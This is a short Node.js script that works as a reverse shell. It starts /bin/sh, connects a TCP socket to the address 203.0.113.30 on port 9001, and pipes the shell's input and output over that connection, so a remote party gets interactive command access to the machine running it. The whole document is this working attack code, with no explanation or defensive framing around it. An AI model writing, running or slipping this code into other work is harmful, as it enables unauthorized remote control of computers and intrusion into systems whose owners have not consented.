const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(9001, '203.0.113.30', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
